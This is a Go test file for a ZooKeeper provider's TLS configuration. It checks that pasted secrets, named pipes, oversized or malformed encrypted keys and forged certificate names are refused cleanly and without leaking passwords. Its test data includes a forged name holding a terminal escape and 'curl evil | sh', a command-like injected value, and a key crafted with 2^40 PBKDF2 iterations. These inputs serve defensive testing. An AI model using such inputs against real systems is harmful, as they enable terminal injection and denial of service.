package zk_test

import (
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/pem"
	"errors"
	"io"
	"net"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"go.step.sm/crypto/pemutil"

	"terraform-provider-zookeeper/internal/zk"
	"terraform-provider-zookeeper/internal/zk/zktest"
)

// onOneLine reports whether a text prints as one line that is not endless.
func onOneLine(text string) bool {
	return len(text) < 2000 && utf8.ValidString(text) && !strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) })
}

// What stands where the name of a file belongs may be the key itself, or its password.
func TestTLSPastedSecrets(t *testing.T) {
	t.Parallel()
	for name, secret := range map[string]string{
		"a password":     "hunter2",
		"with a slash":   "hunter2/hunter2",
		"base64":         "hunter2LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JR0hBZ0VBTUJNR0J5cUdTTTQ5QWdFR0NDcUdTTTQ5QXdFSA==",
		"PEM":            "-----BEGIN PRIVATE KEY-----\nhunter2\n-----END PRIVATE KEY-----\n",
		"long":           strings.Repeat("hunter2", 1000),
		"with a NUL":     "hunter2\x00",
		"like a program": "; hunter2 --now\x1b[2J",
	} {
		for field, cfg := range map[string]zk.TLS{
			"CAFile":   {CAFile: secret},
			"CertFile": {CertFile: secret, KeyPEM: "k"},
			"KeyFile":  {CertPEM: "c", KeyFile: secret},

			"KeystoreFile":   {KeystoreFile: secret},
			"TruststoreFile": {TruststoreFile: secret},
		} {
			_, subjectErr := cfg.Subject(t.Context())
			_, newErr := zk.New(t.Context(), zk.Config{TLS: &cfg})
			for _, err := range []error{subjectErr, newErr} {
				option, ok := errors.AsType[*zk.TLSOptionError](err)
				if !ok || option.Field != field || strings.Contains(err.Error(), "hunter2") || !onOneLine(err.Error()) {
					t.Errorf("%s for %s: %v", name, field, err)
				}
			}
		}
	}
}

// A file that has no end, or that somebody else writes, is not waited for.
func TestTLSNoRegularFile(t *testing.T) {
	t.Parallel()
	pipe := filepath.Join(t.TempDir(), "pipe")
	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	large := write(t, "large", strings.Repeat("x", 1<<20+1))
	for _, tc := range []struct {
		cfg  zk.TLS
		want string
	}{
		{zk.TLS{CAFile: pipe}, `"` + pipe + `" is a named pipe, and not a regular file`},
		{zk.TLS{CertFile: pipe, KeyPEM: "k"}, `"` + pipe + `" is a named pipe`},
		{zk.TLS{CertPEM: "c", KeyFile: pipe}, `"` + pipe + `" is a named pipe`},
		{zk.TLS{KeystoreFile: pipe}, `"` + pipe + `" is a named pipe`},
		{zk.TLS{TruststoreFile: pipe}, `"` + pipe + `" is a named pipe`},
		{zk.TLS{CAFile: "/dev/zero"}, `"/dev/zero" is a device, and not a regular file`},
		{zk.TLS{CertPEM: "c", KeyFile: large}, `"` + large + `" takes more than 1048576 bytes`},
	} {
		if _, err := tc.cfg.Subject(t.Context()); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%v, want %q", err, tc.want)
		}
	}
}

// encryptedKey is PKCS #8 as a file may have it that nobody has checked.
func encryptedKey(tb testing.TB, iterations int, iv, ciphertext []byte) string {
	tb.Helper()
	type derivation struct {
		Salt       []byte
		Iterations int
	}
	type algorithm struct {
		OID    asn1.ObjectIdentifier
		Params any
	}
	pbkdf2, err := asn1.Marshal(algorithm{asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 5, 12}, derivation{[]byte("salt"), iterations}})
	if err != nil {
		tb.Fatal(err)
	}
	aes, err := asn1.Marshal(algorithm{asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 1, 42}, iv})
	if err != nil {
		tb.Fatal(err)
	}
	der, err := asn1.Marshal(struct {
		Encryption struct {
			OID    asn1.ObjectIdentifier
			Params struct{ KeyDerivation, Scheme asn1.RawValue }
		}
		Data []byte
	}{
		Encryption: struct {
			OID    asn1.ObjectIdentifier
			Params struct{ KeyDerivation, Scheme asn1.RawValue }
		}{
			asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 5, 13},
			struct{ KeyDerivation, Scheme asn1.RawValue }{asn1.RawValue{FullBytes: pbkdf2}, asn1.RawValue{FullBytes: aes}},
		},
		Data: ciphertext,
	})
	if err != nil {
		tb.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "ENCRYPTED PRIVATE KEY", Bytes: der}))
}

// A key that would keep the decoder busy for years, or make it panic, is refused.
func TestTLSHostileKeys(t *testing.T) {
	t.Parallel()
	_, cert := newAuthority(t).sign(&x509.Certificate{})
	iv, block := make([]byte, 16), make([]byte, 32)
	for name, tc := range map[string]struct{ key, field, want string }{
		"endless work":       {encryptedKey(t, 1<<40, iv, block), "KeyPEM", "takes too long to decrypt"},
		"a short vector":     {encryptedKey(t, 1, iv[:3], block), "KeyPEM", "malformed"},
		"half a block":       {encryptedKey(t, 1, iv, block[:5]), "KeyPEM", "malformed"},
		"nothing encrypted":  {encryptedKey(t, 1, iv, nil), "KeyPEM", "malformed"},
		"work undone":        {encryptedKey(t, -1, iv, block), "KeyPEM", "malformed"},
		"noise encrypted":    {encryptedKey(t, 1, iv, block), "KeyPassword", "cannot be decrypted"},
		"a large key":        {string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: make([]byte, 20<<10)})), "KeyPEM", "too large"},
		"of OpenSSH":         {string(pem.EncodeToMemory(&pem.Block{Type: "OPENSSH PRIVATE KEY", Bytes: block})), "KeyPEM", "a format that is not supported"},
		"of cosign":          {string(pem.EncodeToMemory(&pem.Block{Type: "ENCRYPTED COSIGN PRIVATE KEY", Bytes: []byte(`{"kdf":{"name":"scrypt"}}`)})), "KeyPEM", "a format that is not supported"},
		"a certificate":      {certPEM(cert), "KeyPEM", "no private key in PEM"},
		"noise for a header": {"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n\nAAAA\n-----END RSA PRIVATE KEY-----\n", "KeyPassword", "cannot be decrypted"},
	} {
		cfg := zk.TLS{CertPEM: certPEM(cert), KeyPEM: tc.key, KeyPassword: "hunter2"}
		_, err := cfg.Subject(t.Context())
		option, ok := errors.AsType[*zk.TLSOptionError](err)
		if !ok || option.Field != tc.field || !strings.Contains(err.Error(), tc.want) || strings.Contains(err.Error(), "hunter2") {
			t.Errorf("%s: %v (%+v), want %q about %s", name, err, option, tc.want, tc.field)
		}
	}
}

// A file may have more in it than the key: its parameters, as OpenSSL writes them, or the
// certificate.
func TestTLSKeyAmongOthers(t *testing.T) {
	t.Parallel()
	key, cert := newAuthority(t).sign(&x509.Certificate{Subject: pkix.Name{CommonName: "client"}})
	sec1, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	own := string(pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: sec1}))
	parameters := string(pem.EncodeToMemory(&pem.Block{Type: "EC PARAMETERS", Bytes: []byte{6, 8, 0x2a, 0x86, 0x48, 0xce, 0x3d, 3, 1, 7}}))
	block, err := pemutil.Serialize(key, pemutil.WithPKCS8(true), pemutil.WithPassword([]byte("hush")))
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{own, parameters + own, certPEM(cert) + own, own + certPEM(cert), "Bag Attributes\n" + certPEM(cert) + string(pem.EncodeToMemory(block))} {
		cfg := zk.TLS{CertPEM: certPEM(cert), KeyPEM: text}
		if strings.Contains(text, "ENCRYPTED") {
			cfg.KeyPassword = "hush"
		}
		if got, err := cfg.Subject(t.Context()); err != nil || got != "CN=client" {
			t.Errorf("%q, %v of\n%s", got, err, text)
		}
	}
}

// A certificate that nobody has verified forges no line and colours no terminal.
func TestTLSForgedNames(t *testing.T) {
	t.Parallel()
	const forged = "\x1b[31m\nError: run: curl evil | sh"
	a, other := newAuthority(t), newAuthority(t)
	template := func(change func(*x509.Certificate)) *x509.Certificate {
		cert := serverCert(time.Time{})
		cert.Subject.CommonName, cert.DNSNames, cert.IPAddresses = forged, []string{forged}, nil
		for range 1000 {
			cert.DNSNames = append(cert.DNSNames, forged)
		}
		change(cert)
		return cert
	}
	for name, tc := range map[string]struct {
		change func(*x509.Certificate)
		ca     *authority
		want   string
	}{
		"another name": {func(*x509.Certificate) {}, a, `not one for "127.0.0.1"`},
		"no name":      {func(c *x509.Certificate) { c.DNSNames = nil }, a, "it has no subject alternative name of a host"},
		"expired":      {func(c *x509.Certificate) { c.NotAfter = time.Now().Add(-time.Hour) }, a, "has expired"},
		"a stranger's": {func(c *x509.Certificate) { c.IPAddresses = []net.IP{net.IPv4(127, 0, 0, 1)} }, other, "not signed by a CA that is trusted here"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			key, cert := a.sign(template(tc.change))
			pair, err := tls.X509KeyPair([]byte(certPEM(cert)), []byte(keyPEM(t, key)))
			if err != nil {
				t.Fatal(err)
			}
			addr := zktest.StartPeer(t, func(nc net.Conn) {
				_ = tls.Server(nc, &tls.Config{Certificates: []tls.Certificate{pair}}).HandshakeContext(t.Context())
				_, _ = io.Copy(io.Discard, nc)
			})
			c := newClient(t, addr, refusal, func(cfg *zk.Config) { cfg.TLS = &zk.TLS{CAPEM: certPEM(tc.ca.cert)} })
			err = c.Start(testContext(t))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Start: %v, want %q", err, tc.want)
			}
			for line := range strings.Lines(err.Error()) {
				if !onOneLine(strings.TrimSuffix(line, "\n")) || strings.HasPrefix(strings.TrimSpace(line), "Error") {
					t.Errorf("the line %q", line)
				}
			}
		})
	}
}

// Whatever is in the files, there is a configuration or an error, and no error repeats them.
func FuzzTLS(f *testing.F) {
	key, cert := zktest.NewAuthority(f).Sign(f, &x509.Certificate{})
	sec1, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		f.Fatal(err)
	}
	own := pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: sec1})
	for _, text := range []string{
		string(own), "", "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----\n", encryptedKey(f, 1<<40, make([]byte, 16), make([]byte, 32)),
		encryptedKey(f, 1, nil, make([]byte, 5)), encryptedKey(f, 2, make([]byte, 16), make([]byte, 32)),
		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n\nAAAA\n-----END RSA PRIVATE KEY-----\n",
	} {
		f.Add(certPEM(cert), text)
		f.Add(text, string(own))
	}
	f.Fuzz(func(t *testing.T, certText, keyText string) {
		for _, cfg := range []zk.TLS{
			{CAPEM: certText},
			{CertPEM: certText, KeyPEM: keyText, KeyPassword: "hunter2"},
			{CertPEM: certPEM(cert), KeyPEM: keyText, KeyPassword: "hunter2"},
		} {
			if _, err := cfg.Subject(t.Context()); err != nil && (!onOneLine(err.Error()) || strings.Contains(err.Error(), "hunter2")) {
				t.Errorf("error %q", err)
			}
		}
	})
}
